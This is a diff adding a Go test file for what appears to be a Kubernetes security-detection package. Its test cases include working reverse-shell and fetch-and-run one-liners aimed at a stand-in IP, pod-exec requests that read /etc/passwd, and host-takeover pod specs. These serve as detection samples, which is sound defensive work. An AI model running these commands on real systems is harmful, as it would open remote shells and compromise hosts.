@@ -1,0 +1,131 @@
+package detect
+
+import (
+	"encoding/json"
+	"slices"
+	"testing"
+
+	authnv1 "k8s.io/api/authentication/v1"
+)
+
+func userInfo(name string) authnv1.UserInfo { return authnv1.UserInfo{Username: name} }
+
+func TestReverseShell(t *testing.T) {
+	tests := []struct {
+		text string
+		want bool
+	}{
+		{"bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", true},
+		{"nc -e /bin/sh 203.0.113.7 4444", true},
+		{"ncat 203.0.113.7 4444 --sh-exec /bin/bash", true},
+		{"socat TCP:203.0.113.7:4444 EXEC:/bin/sh", true},
+		{"rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.7 4444 > /tmp/f", true},
+		{`python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.7",4444));pty.spawn("sh")'`, true},
+		{"curl -fsSL http://203.0.113.7/x.sh | bash", true},
+		{"wget -qO- http://203.0.113.7/x | sh", true},
+		{"echo YmFzaA== | base64 -d | sh", true},
+		{"exec /usr/bin/upf --config /etc/upf.yaml", false},
+		{"curl -sf http://localhost:8080/healthz", false},
+		{"nc -z localhost 38412", false},
+		{"wget -O /tmp/data.bin http://mirror/data.bin", false},
+		{"", false},
+	}
+	for _, tt := range tests {
+		if got := reverseShell(tt.text) != ""; got != tt.want {
+			t.Errorf("reverseShell(%q) = %v, want %v", tt.text, got, tt.want)
+		}
+	}
+}
+
+func TestExecCommand(t *testing.T) {
+	tests := []struct{ uri, want string }{
+		{"/api/v1/namespaces/a/pods/b/exec?command=cat&command=%2Fetc%2Fpasswd&container=c", "cat /etc/passwd"},
+		{"/api/v1/nodes/n/proxy/exec/a/b/c?command=id&output=1", "id"},
+		{"/api/v1/namespaces/a/pods/b/exec?command=sh&command=-c&command=echo+hi", "sh -c echo hi"},
+		{"/api/v1/namespaces/a/pods/b/attach?container=c&stdin=true", ""},
+		{"/api/v1/namespaces/a/pods/b/exec", ""},
+		{"/api/v1/namespaces/a/pods/b/exec?command=%zz&command=id", "id"},
+	}
+	for _, tt := range tests {
+		if got := execCommand(tt.uri); got != tt.want {
+			t.Errorf("execCommand(%q) = %q, want %q", tt.uri, got, tt.want)
+		}
+	}
+}
+
+func TestDangerousGrants(t *testing.T) {
+	tests := []struct {
+		role string
+		want []string
+	}{
+		{`{"rules":[{"resources":["pods/exec"],"verbs":["get"]}]}`, []string{"pods/exec"}},
+		{`{"rules":[{"resources":["pods"],"verbs":["create","get"]},{"resources":["secrets"],"verbs":["list"]}]}`, []string{"create pods", "read secrets"}},
+		{`{"rules":[{"resources":["clusterroles"],"verbs":["bind","escalate"]}]}`, []string{"escalate", "bind"}},
+		{`{"rules":[{"resources":["users","groups"],"verbs":["impersonate"]}]}`, []string{"impersonate"}},
+		{`{"rules":[{"resources":["nodes/proxy"],"verbs":["get"]}]}`, []string{"nodes/proxy"}},
+		{`{"rules":[{"resources":["pods","configmaps"],"verbs":["get","list","watch"]}]}`, []string{}},
+		{`{"rules":"garbage"}`, []string{}},
+		{`{}`, []string{}},
+	}
+	for _, tt := range tests {
+		var m map[string]any
+		if err := json.Unmarshal([]byte(tt.role), &m); err != nil {
+			t.Fatal(err)
+		}
+		if got := dangerousGrants(m); !slices.Equal(got, tt.want) {
+			t.Errorf("dangerousGrants(%s) = %v, want %v", tt.role, got, tt.want)
+		}
+	}
+}
+
+func TestHostTakeover(t *testing.T) {
+	tests := []struct {
+		spec string
+		want []string
+	}{
+		{`{"volumes":[{"name":"h","hostPath":{"path":"/"}}]}`, []string{"hostPath / (the host's root filesystem) as volume h"}},
+		{`{"volumes":[{"name":"s","hostPath":{"path":"/var/run/docker.sock"}}]}`, []string{"hostPath /var/run/docker.sock (the Docker socket) as volume s"}},
+		{`{"volumes":[{"name":"d","hostPath":{"path":"/data/upf"}}]}`, []string{}},
+		{`{"hostPID":true,"hostNetwork":true}`, []string{"hostPID", "hostNetwork"}},
+		{`{"containers":[{"name":"c","securityContext":{"privileged":true,"capabilities":{"add":["SYS_ADMIN","NET_ADMIN"]}}}]}`,
+			[]string{"privileged container c", "capability SYS_ADMIN in container c"}},
+		{`{"containers":[{"name":"c","securityContext":{"privileged":false}}]}`, []string{}},
+		{`{"containers":"garbage","volumes":[1,"x"]}`, []string{}},
+	}
+	for _, tt := range tests {
+		var m map[string]any
+		if err := json.Unmarshal([]byte(tt.spec), &m); err != nil {
+			t.Fatal(err)
+		}
+		if got := hostTakeover(m); !slices.Equal(got, tt.want) {
+			t.Errorf("hostTakeover(%s) = %q, want %q", tt.spec, got, tt.want)
+		}
+	}
+}
+
+func TestPodSpecOf(t *testing.T) {
+	tests := []struct {
+		obj  string
+		want string // the name of the first container
+	}{
+		{`{"kind":"Pod","spec":{"containers":[{"name":"p"}]}}`, "p"},
+		{`{"kind":"Deployment","spec":{"template":{"spec":{"containers":[{"name":"d"}]}}}}`, "d"},
+		{`{"kind":"CronJob","spec":{"jobTemplate":{"spec":{"template":{"spec":{"containers":[{"name":"c"}]}}}}}}`, "c"},
+		{`{"kind":"Service","spec":{"ports":[]}}`, ""},
+		{`{"kind":"Deployment","spec":{"template":"x"}}`, ""},
+	}
+	for _, tt := range tests {
+		var m map[string]any
+		if err := json.Unmarshal([]byte(tt.obj), &m); err != nil {
+			t.Fatal(err)
+		}
+		spec := podSpecOf(m)
+		got := ""
+		if ctrs, ok := spec["containers"].([]any); ok && len(ctrs) > 0 {
+			got, _ = ctrs[0].(map[string]any)["name"].(string)
+		}
+		if got != tt.want {
+			t.Errorf("podSpecOf(%s): first container %q, want %q", tt.obj, got, tt.want)
+		}
+	}
+}
